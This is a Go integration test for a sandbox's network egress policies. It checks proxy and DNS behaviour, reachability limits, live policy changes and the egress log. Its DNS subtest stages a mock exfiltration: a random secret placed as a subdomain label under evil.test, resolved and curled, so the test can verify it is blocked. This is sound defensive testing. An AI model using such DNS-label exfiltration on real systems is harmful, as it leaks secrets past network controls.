package integration

import (
	"fmt"
	"net"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/airlockhq/airlock/api"
	"github.com/airlockhq/airlock/internal/testenv"
)

// TestNetworkModes checks every egress mode of DESIGN.md §6 from inside real sandboxes,
// with curl and python, through the proxy and transparently, against the test's own
// upstreams; the kernel's part (only DNS and the proxy reachable); policy changes on a
// running sandbox; the policy-aware DNS; and the egress log.
func TestNetworkModes(t *testing.T) {
	w := newNetWorld(t)
	n := w.node(t)
	create := func(name string, pol api.NetworkPolicy) *api.Sandbox {
		sb := n.Create(t, api.CreateSandboxRequest{Name: name, Network: &pol})
		netInstallProbe(t, n, sb.Name)
		return sb
	}
	none := create("net-none", api.NetworkPolicy{Mode: "none"})
	denyAll := create("net-deny", api.NetworkPolicy{Mode: "deny_all", AllowPrivate: netLoopback8})
	baseline := create("net-base", api.NetworkPolicy{Mode: "baseline", AllowPrivate: netLoopback8})
	basePublic := create("net-base-pub", api.NetworkPolicy{Mode: "baseline"})
	allow := create("net-allow", api.NetworkPolicy{Mode: "allowlist", Allow: []string{"api.example.test/GET,POST"}, AllowPrivate: netLoopback8})
	wild := create("net-wild", api.NetworkPolicy{Mode: "allowlist", Allow: []string{"*.example.test"}, AllowPrivate: netLoopback8})
	unr := create("net-unr", api.NetworkPolicy{Mode: "unrestricted"})
	unrPriv := create("net-unr-priv", api.NetworkPolicy{Mode: "unrestricted", AllowPrivate: netLoopback8})

	t.Run("none", func(t *testing.T) {
		devs := netDevNames(t, n, none.Name)
		if !slices.Equal(devs, []string{"lo"}) {
			t.Errorf("/proc/net/dev lists %v, want only lo", devs)
		}
		env := mustRun(t, n, none.Name, "env")
		if strings.Contains(env, "HTTPS_PROXY=") || strings.Contains(env, "HTTP_PROXY=") {
			t.Errorf("a sandbox without network has proxy variables:\n%s", env)
		}
		before := w.dns.count("", "pypi.org")
		if r := netProbe(t, n, none.Name, "dns", "pypi.org"); r.Error == "" {
			t.Errorf("DNS query without network: got %s, want no server", r)
		}
		if r := netProbe(t, n, none.Name, "gai", "pypi.org"); r.Error == "" || len(r.Addrs) > 0 {
			t.Errorf("getaddrinfo without network: got %s, want an error", r)
		}
		for _, c := range netClients {
			if r := netFetch(t, n, none.Name, c, "GET", "https://pypi.org/"); r.Status != 0 {
				t.Errorf("%s without network: got %s, want no connection", c, r.Detail)
			}
		}
		for _, dst := range []string{netFrontAddr + " 443", netFrontAddr + " 80", "10.0.0.1 80"} {
			if r := netProbe(t, n, none.Name, append([]string{"tcp"}, strings.Fields(dst)...)...); r.OK || r.Error == "" {
				t.Errorf("TCP to %s without network: got %s, want a failure", dst, r)
			}
		}
		if got := w.dns.count("", "pypi.org"); got != before {
			t.Errorf("the upstream DNS saw %d queries for pypi.org from a sandbox without network", got-before)
		}
	})

	t.Run("deny_all", func(t *testing.T) {
		for _, u := range []string{"https://pypi.org/", "http://pypi.org/", "https://api.example.test/"} {
			netWantRefused(t, w, n, denyAll.Name, "GET", u)
		}
		netWantRefused(t, w, n, denyAll.Name, "POST", "https://files.pythonhosted.org/", curlProxied, pyIgnoring)
		netWantNXDOMAIN(t, w, n, denyAll.Name, "pypi.org")
		netWantNXDOMAIN(t, w, n, denyAll.Name, "api.example.test")
	})

	t.Run("baseline", func(t *testing.T) {
		for _, u := range []string{"https://pypi.org/", "http://pypi.org/", "https://files.pythonhosted.org/"} {
			netWantAllowed(t, w, n, baseline.Name, "GET", u)
		}
		netWantAllowed(t, w, n, baseline.Name, "HEAD", "https://pypi.org/", curlProxied, pyIgnoring)
		for _, m := range []string{"POST", "PUT", "DELETE"} {
			netWantRefused(t, w, n, baseline.Name, m, "https://pypi.org/", curlProxied, pyIgnoring)
		}
		netWantRefused(t, w, n, baseline.Name, "POST", "https://files.pythonhosted.org/")
		netWantRefused(t, w, n, baseline.Name, "POST", "http://pypi.org/", curlIgnoring, pyProxied)
		netWantRefused(t, w, n, baseline.Name, "GET", "https://api.example.test/")
		netWantRefused(t, w, n, baseline.Name, "GET", "http://api.example.test/")
		// Another port than 80 and 443 is not in the baseline's rules.
		if r := netProbe(t, n, baseline.Name, "connect", "pypi.org:8443"); r.Status != 403 {
			t.Errorf("CONNECT pypi.org:8443: got %s, want 403", r)
		}
		netWantResolves(t, w, n, baseline.Name, "pypi.org", w.ip.String())
		netWantResolves(t, w, n, baseline.Name, "files.pythonhosted.org", w.ip.String())
		netWantNXDOMAIN(t, w, n, baseline.Name, "api.example.test")
	})

	t.Run("baseline without allow_private", func(t *testing.T) {
		// pypi.org is in the baseline, but it resolves to the loopback, which is protected.
		netWantRefused(t, w, n, basePublic.Name, "GET", "https://pypi.org/")
		netWantRefused(t, w, n, basePublic.Name, "GET", "http://pypi.org/")
		netWaitEgress(t, n, basePublic.Name, "the refused tunnel to pypi.org", func(r api.EgressRecord) bool {
			return !r.Allowed && r.Host == "pypi.org" && strings.Contains(r.Reason, "protected")
		})
		// The name may be resolved, but the protected answer is withheld.
		before := w.dns.count("upstream", "pypi.org")
		r := netProbe(t, n, basePublic.Name, "dns", "pypi.org")
		if r.Rcode == nil || *r.Rcode != 0 || len(r.Addrs) != 0 {
			t.Errorf("DNS pypi.org without allow_private: got %s, want NOERROR without the loopback address", r)
		}
		if w.dns.count("upstream", "pypi.org") == before {
			t.Errorf("DNS pypi.org: the query was not forwarded upstream")
		}
	})

	t.Run("allowlist", func(t *testing.T) {
		for _, m := range []string{"GET", "POST"} {
			netWantAllowed(t, w, n, allow.Name, m, "https://api.example.test/")
		}
		netWantAllowed(t, w, n, allow.Name, "GET", "http://api.example.test/", curlProxied, curlIgnoring)
		for _, m := range []string{"PUT", "DELETE"} {
			netWantRefused(t, w, n, allow.Name, m, "https://api.example.test/", curlProxied, pyIgnoring)
		}
		netWantRefused(t, w, n, allow.Name, "GET", "https://other.example.test/")
		netWantRefused(t, w, n, allow.Name, "GET", "https://example.test/", curlProxied, curlIgnoring)
		// The allowlist includes the baseline.
		netWantAllowed(t, w, n, allow.Name, "GET", "https://pypi.org/", curlProxied, pyIgnoring)
		netWantRefused(t, w, n, allow.Name, "POST", "https://pypi.org/", curlProxied, pyIgnoring)
		netWantResolves(t, w, n, allow.Name, "api.example.test", w.ip.String())
		netWantNXDOMAIN(t, w, n, allow.Name, "other.example.test")
		got, err := n.Client.Network(background, allow.Name)
		if err != nil || got.Mode != "allowlist" || !slices.Equal(got.Allow, []string{"api.example.test/GET,POST"}) {
			t.Errorf("network policy: got %+v, %v, want allowlist [api.example.test/GET,POST]", got, err)
		}
	})

	t.Run("allowlist wildcard", func(t *testing.T) {
		for _, host := range []string{"other.example.test", "api.example.test", "deep.sub.example.test"} {
			netWantAllowed(t, w, n, wild.Name, "GET", "https://"+host+"/", curlProxied, curlIgnoring, pyProxied)
		}
		netWantAllowed(t, w, n, wild.Name, "PUT", "https://other.example.test/", curlProxied, pyIgnoring)
		// A wildcard matches subdomains, not the domain itself, nor look-alikes.
		netWantRefused(t, w, n, wild.Name, "GET", "https://example.test/", curlProxied, pyIgnoring)
		netWantRefused(t, w, n, wild.Name, "GET", "https://evilexample.test/", curlProxied, pyIgnoring)
		netWantRefused(t, w, n, wild.Name, "GET", "https://example.test.evil.test/", curlProxied, pyIgnoring)
		netWantResolves(t, w, n, wild.Name, "deep.sub.example.test", w.ip.String())
		netWantNXDOMAIN(t, w, n, wild.Name, "example.test")
	})

	t.Run("unrestricted", func(t *testing.T) {
		// Any name, but each resolves to the loopback: refused unless allow_private says so.
		for i := 0; i < 2; i++ {
			host := fmt.Sprintf("any-%s.example.com", randHex(4))
			netWantRefused(t, w, n, unr.Name, "GET", "https://"+host+"/")
			netWantAllowed(t, w, n, unrPriv.Name, "GET", "https://"+host+"/")
			netWantAllowed(t, w, n, unrPriv.Name, "POST", "http://"+host+"/", curlProxied, pyIgnoring)
		}
		host := fmt.Sprintf("any-%s.example.org", randHex(4))
		netWantResolves(t, w, n, unrPriv.Name, host, w.ip.String())
		r := netProbe(t, n, unr.Name, "dns", host)
		if r.Rcode == nil || *r.Rcode != 0 || len(r.Addrs) != 0 {
			t.Errorf("DNS %s in unrestricted mode without allow_private: got %s, want NOERROR, the loopback withheld", host, r)
		}
		// Special-use names are not public: unrestricted does not resolve them.
		netWantNXDOMAIN(t, w, n, unrPriv.Name, "api.example.test")
		netWantNXDOMAIN(t, w, n, unrPriv.Name, "printer.local")
	})

	t.Run("only DNS and the proxy are reachable", func(t *testing.T) {
		link, ok := n.Network.Link(baseline.ID)
		if !ok {
			t.Fatalf("no link for %s", baseline.Name)
		}
		other, _ := n.Network.Link(allow.ID)
		proxyPort := netProxyPort(t, n, baseline.Name)
		tcp := netTCPTrap(t, "0.0.0.0:0")
		udp := netUDPTrap(t, "0.0.0.0:0")
		hostAddrs := []string{link.HostAddr.String(), other.HostAddr.String()}
		if a := netHostAddr(); a.IsValid() {
			hostAddrs = append(hostAddrs, a.String())
		}
		// Positive control: the proxy on the sandbox's own link.
		if r := netProbe(t, n, baseline.Name, "tcp", link.HostAddr.String(), proxyPort); !r.OK {
			t.Fatalf("TCP to the proxy %s:%s: got %s, want it to connect", link.HostAddr, proxyPort, r)
		}
		var bad []string
		for _, a := range hostAddrs {
			bad = append(bad, "tcp "+a+" "+tcp.port(), "udp "+a+" "+udp.port())
			if a != link.HostAddr.String() {
				// The proxy listens on every address, but only the link's own is open.
				bad = append(bad, "tcp "+a+" "+proxyPort)
			}
		}
		bad = append(bad, "tcp "+netFrontAddr+" 22", "tcp "+netFrontAddr+" 8080", "tcp 10.0.0.1 8443",
			"udp "+netFrontAddr+" 53", "udp "+netFrontAddr+" 123", "udp "+link.HostAddr.String()+" 123")
		var cmds [][]string
		for _, b := range bad {
			cmds = append(cmds, strings.Fields(b))
		}
		for i, r := range netProbeBatch(t, n, baseline.Name, cmds) {
			if r.OK || r.Error == "" {
				t.Errorf("%s from the sandbox: got %s, want it to fail", bad[i], r)
			}
		}
		if c, p := tcp.conns.Load(), udp.pkts.Load(); c != 0 || p != 0 {
			t.Errorf("the host's listeners got %d TCP connections and %d datagrams from a sandbox, want none", c, p)
		}
		// DNS to another resolver than the node's goes nowhere either.
		r := netProbe(t, n, baseline.Name, "tcp", "8.8.8.8", "53")
		if r.OK {
			t.Errorf("TCP to 8.8.8.8:53: got %s, want it to fail", r)
		}
	})

	t.Run("policy change applies to new connections within 1s", func(t *testing.T) {
		sb := create("net-change", api.NetworkPolicy{Mode: "baseline", AllowPrivate: netLoopback8})
		netWantRefused(t, w, n, sb.Name, "GET", "https://other.example.test/", curlProxied)
		netSetPolicy(t, n, sb.Name, api.NetworkPolicy{Mode: "allowlist", Allow: []string{"other.example.test"}, AllowPrivate: netLoopback8})
		netWithin(t, time.Second, "other.example.test allowed", func() bool {
			return netFetch(t, n, sb.Name, pyProxied, "GET", "https://other.example.test/").Status == 200
		})
		netWantAllowed(t, w, n, sb.Name, "GET", "https://other.example.test/")
		netWantResolves(t, w, n, sb.Name, "other.example.test", w.ip.String())

		// A connection opened under the old policy has each request decided anew.
		sess, err := n.Client.StartSession(background, sb.Name, api.SessionRequest{Kind: "python"})
		if err != nil {
			t.Fatal(err)
		}
		defer n.Client.CloseSession(background, sb.Name, sess.ID)
		send := func(code string) string {
			t.Helper()
			res, err := n.Client.Send(background, sb.Name, sess.ID, code)
			if err != nil {
				t.Fatalf("send %q: %v", code, err)
			}
			return strings.TrimSpace(res.Stdout + res.Stderr)
		}
		send(netKeptAliveClient("other.example.test"))
		if got := send("print(get())"); got != "200" {
			t.Fatalf("kept-alive request: got %q, want 200", got)
		}

		netSetPolicy(t, n, sb.Name, api.NetworkPolicy{Mode: "deny_all", AllowPrivate: netLoopback8})
		netWithin(t, time.Second, "pypi.org refused", func() bool {
			return netFetch(t, n, sb.Name, pyProxied, "GET", "https://pypi.org/").Status == 403
		})
		if got := send("print(get(), last())"); !strings.HasPrefix(got, "403 ") || !strings.Contains(got, "deny_all") {
			t.Errorf("request on a connection opened before the change to deny_all: got %q, want 403 for deny_all", got)
		}
		netWantRefused(t, w, n, sb.Name, "GET", "https://other.example.test/")
		netWantNXDOMAIN(t, w, n, sb.Name, "other.example.test")

		netSetPolicy(t, n, sb.Name, api.NetworkPolicy{Mode: "baseline", AllowPrivate: netLoopback8})
		netWithin(t, time.Second, "pypi.org allowed again", func() bool {
			return netFetch(t, n, sb.Name, curlIgnoring, "GET", "https://pypi.org/").Status == 200
		})
	})

	t.Run("a kept-alive connection survives a policy change that still allows it", func(t *testing.T) {
		sb := create("net-keep", api.NetworkPolicy{Mode: "baseline", AllowPrivate: netLoopback8})
		sess, err := n.Client.StartSession(background, sb.Name, api.SessionRequest{Kind: "python"})
		if err != nil {
			t.Fatal(err)
		}
		defer n.Client.CloseSession(background, sb.Name, sess.ID)
		send := func(code string) string {
			t.Helper()
			res, err := n.Client.Send(background, sb.Name, sess.ID, code)
			if err != nil {
				t.Fatalf("send %q: %v", code, err)
			}
			return strings.TrimSpace(res.Stdout + res.Stderr)
		}
		send(netKeptAliveClient("pypi.org"))
		if got := send("print(get())"); got != "200" {
			t.Fatalf("kept-alive request: got %q, want 200", got)
		}
		// pypi.org stays allowed (the allowlist includes the baseline).
		netSetPolicy(t, n, sb.Name, api.NetworkPolicy{Mode: "allowlist", Allow: []string{"other.example.test"}, AllowPrivate: netLoopback8})
		if got := send("print(get(), last())"); !strings.HasPrefix(got, "200 ") {
			t.Errorf("kept-alive request after a policy change that still allows pypi.org: got %q, want 200", got)
		}
	})

	t.Run("DNS", func(t *testing.T) {
		// Names the policy cannot reach never leave the node: no exfiltration in labels.
		for _, sb := range []*api.Sandbox{baseline, allow, denyAll, unrPriv} {
			secret := randHex(8)
			name := secret + ".random.subdomains.evil.test"
			netWantNXDOMAIN(t, w, n, sb.Name, name)
			if r := netProbe(t, n, sb.Name, "gai", name); len(r.Addrs) > 0 {
				t.Errorf("%s: getaddrinfo %s: got %s, want no address", sb.Name, name, r)
			}
			sbCurl(t, n, sb.Name, "--noproxy", "*", "https://"+name+"/")
			if c := w.dns.countSuffix("evil.test"); c != 0 {
				t.Errorf("%s: the upstream DNS saw %d queries under evil.test, want none", sb.Name, c)
			}
		}
		netWantResolves(t, w, n, baseline.Name, "pypi.org", w.ip.String())

		// The proxy resolves names through the node's upstream resolver, like the
		// sandbox's own DNS, so both see the same answers.
		before := w.dns.count("upstream", "files.pythonhosted.org")
		netWantAllowed(t, w, n, baseline.Name, "GET", "https://files.pythonhosted.org/", curlProxied)
		if w.dns.count("upstream", "files.pythonhosted.org") == before {
			t.Error("the egress proxy did not resolve through the node's upstream resolver, as the sandbox's DNS does")
		}
	})

	t.Run("egress log", func(t *testing.T) {
		if r := sbCurl(t, n, baseline.Name, "-o", "/dev/null", "https://pypi.org/bytes?n=12345"); r.Code != 200 {
			t.Fatalf("GET https://pypi.org/bytes?n=12345: got %s, want 200", r)
		}
		rec := netWaitEgress(t, n, baseline.Name, "the allowed GET of 12345 bytes", func(r api.EgressRecord) bool {
			return r.Allowed && r.Method == "GET" && r.Host == "pypi.org" && r.BytesDown == 12345
		})
		if rec.Port != 443 || rec.Rule != "baseline:pypi.org/GET,HEAD" || rec.Addr != w.ip.String() || rec.Reason != "" {
			t.Errorf("allowed record: got %+v, want port 443, rule baseline:pypi.org/GET,HEAD, addr %s", rec, w.ip)
		}
		netWaitEgress(t, n, baseline.Name, "the tunnel's wire bytes", func(r api.EgressRecord) bool {
			return r.Allowed && r.Method == "CONNECT" && r.Host == "pypi.org" && r.Port == 443 && r.BytesDown > 12345 && r.BytesUp > 0
		})
		netWaitEgress(t, n, baseline.Name, "a transparent TLS connection", func(r api.EgressRecord) bool {
			return r.Allowed && r.Method == "TLS" && r.Host == "pypi.org" && r.Port == 443 && r.BytesDown > 0
		})
		netWaitEgress(t, n, baseline.Name, "a plain HTTP GET on port 80", func(r api.EgressRecord) bool {
			return r.Allowed && r.Method == "GET" && r.Host == "pypi.org" && r.Port == 80 && r.BytesDown > 0
		})
		netWaitEgress(t, n, baseline.Name, "the refused POST", func(r api.EgressRecord) bool {
			return !r.Allowed && r.Method == "POST" && r.Host == "pypi.org" && r.Port == 443 &&
				strings.Contains(r.Reason, "method POST is not allowed")
		})
		netWaitEgress(t, n, baseline.Name, "the refused host", func(r api.EgressRecord) bool {
			return !r.Allowed && r.Host == "api.example.test" && r.Port == 443 &&
				strings.Contains(r.Reason, "not in the baseline") && r.Rule == ""
		})
		netWaitEgress(t, n, allow.Name, "an allowed POST with its body bytes", func(r api.EgressRecord) bool {
			return r.Allowed && r.Method == "POST" && r.Host == "api.example.test" && r.BytesUp == 7 &&
				r.Rule == "api.example.test/GET,POST"
		})
		netWaitEgress(t, n, wild.Name, "a wildcard rule", func(r api.EgressRecord) bool {
			return r.Allowed && r.Host == "deep.sub.example.test" && r.Rule == "*.example.test"
		})
		netWaitEgress(t, n, unrPriv.Name, "an unrestricted request", func(r api.EgressRecord) bool {
			return r.Allowed && r.Rule == "unrestricted" && strings.HasSuffix(r.Host, ".example.com")
		})
		recs, err := n.Client.EgressLog(background, baseline.Name, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range recs {
			if r.Allowed && (r.Reason != "" || r.Rule == "") || !r.Allowed && r.Reason == "" {
				t.Errorf("record %+v: an allowed record has a rule and no reason, a refused one a reason", r)
			}
		}
		if len(recs) > 1 {
			after, _ := n.Client.EgressLog(background, baseline.Name, recs[len(recs)-2].Seq)
			if len(after) != 1 || after[0].Seq != recs[len(recs)-1].Seq {
				t.Errorf("egress log after seq %d: got %d records, want the last one", recs[len(recs)-2].Seq, len(after))
			}
		}
	})

	t.Run("egress records carry the sandbox's generation", func(t *testing.T) {
		sb, err := n.Client.Get(background, baseline.Name)
		if err != nil {
			t.Fatal(err)
		}
		recs, err := n.Client.EgressLog(background, baseline.Name, 0)
		if err != nil || len(recs) == 0 {
			t.Fatalf("egress log: %d records, %v", len(recs), err)
		}
		for _, r := range recs {
			if r.Generation != sb.Generation {
				t.Errorf("egress record %d has generation %d; the sandbox (never restarted) has %d", r.Seq, r.Generation, sb.Generation)
			}
		}
	})
}

// netDevNames lists the interfaces in the sandbox's /proc/net/dev.
func netDevNames(t testing.TB, n *testenv.Node, ref string) []string {
	t.Helper()
	var devs []string
	for _, line := range strings.Split(mustRun(t, n, ref, "cat /proc/net/dev"), "\n") {
		if name, _, ok := strings.Cut(line, ":"); ok && !strings.Contains(name, "|") {
			devs = append(devs, strings.TrimSpace(name))
		}
	}
	slices.Sort(devs)
	return devs
}

// netProxyPort is the proxy port the sandbox's HTTPS_PROXY names.
func netProxyPort(t testing.TB, n *testenv.Node, ref string) string {
	t.Helper()
	v := strings.TrimSpace(mustRun(t, n, ref, "echo $HTTPS_PROXY"))
	_, port, err := net.SplitHostPort(strings.TrimPrefix(v, "http://"))
	if err != nil {
		t.Fatalf("HTTPS_PROXY %q: %v", v, err)
	}
	return port
}

// netWantNXDOMAIN checks that the sandbox's DNS answers name with NXDOMAIN and that the
// query never reached the upstream resolver.
func netWantNXDOMAIN(t testing.TB, w *netWorld, n *testenv.Node, ref, name string) {
	t.Helper()
	before := w.dns.count("", name)
	r := netProbe(t, n, ref, "dns", name)
	if r.Rcode == nil || *r.Rcode != 3 || len(r.Addrs) != 0 {
		t.Errorf("%s: DNS %s: got %s, want NXDOMAIN (rcode 3)", ref, name, r)
	}
	if got := w.dns.count("", name); got != before {
		t.Errorf("%s: DNS %s: the upstream saw %d queries, want none", ref, name, got-before)
	}
}

// netWantResolves checks that name resolves to addr in the sandbox, the query having gone
// to the upstream resolver.
func netWantResolves(t testing.TB, w *netWorld, n *testenv.Node, ref, name, addr string) {
	t.Helper()
	before := w.dns.count("upstream", name)
	r := netProbe(t, n, ref, "dns", name)
	if r.Rcode == nil || *r.Rcode != 0 || !slices.Equal(r.Addrs, []string{addr}) {
		t.Errorf("%s: DNS %s: got %s, want NOERROR %s", ref, name, r, addr)
	}
	if w.dns.count("upstream", name) == before {
		t.Errorf("%s: DNS %s: the query did not reach the upstream resolver", ref, name)
	}
	if r := netProbe(t, n, ref, "gai", name); !slices.Equal(r.Addrs, []string{addr}) {
		t.Errorf("%s: getaddrinfo %s: got %s, want %s", ref, name, r, addr)
	}
}

func netSetPolicy(t testing.TB, n *testenv.Node, ref string, pol api.NetworkPolicy) {
	t.Helper()
	if _, err := n.Client.SetNetwork(background, ref, pol); err != nil {
		t.Fatalf("set network of %s to %+v: %v", ref, pol, err)
	}
}

// netWithin checks that ok becomes true within d (of the call), polling.
func netWithin(t testing.TB, d time.Duration, what string, ok func() bool) {
	t.Helper()
	start := time.Now()
	for {
		if ok() {
			t.Logf("%s after %v", what, time.Since(start).Round(time.Millisecond))
			if el := time.Since(start); el > d {
				t.Errorf("%s only after %v, want within %v", what, el.Round(time.Millisecond), d)
			}
			return
		}
		if time.Since(start) > d+5*time.Second {
			t.Errorf("%s: not within %v", what, time.Since(start).Round(time.Millisecond))
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// netKeptAliveClient is python for a session: one HTTPS connection through a CONNECT
// tunnel to host, kept alive, and get() to send a request on it.
func netKeptAliveClient(host string) string {
	return `import http.client, os, ssl, urllib.parse
_u = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
_c = http.client.HTTPSConnection(_u.hostname, _u.port, context=ssl.create_default_context(), timeout=10)
_c.set_tunnel("` + host + `", 443)
_last = [b""]
def get():
    _c.request("GET", "/")
    r = _c.getresponse()
    _last[0] = r.read()
    return r.status
def last():
    return _last[0].decode("latin-1")[:300]
`
}
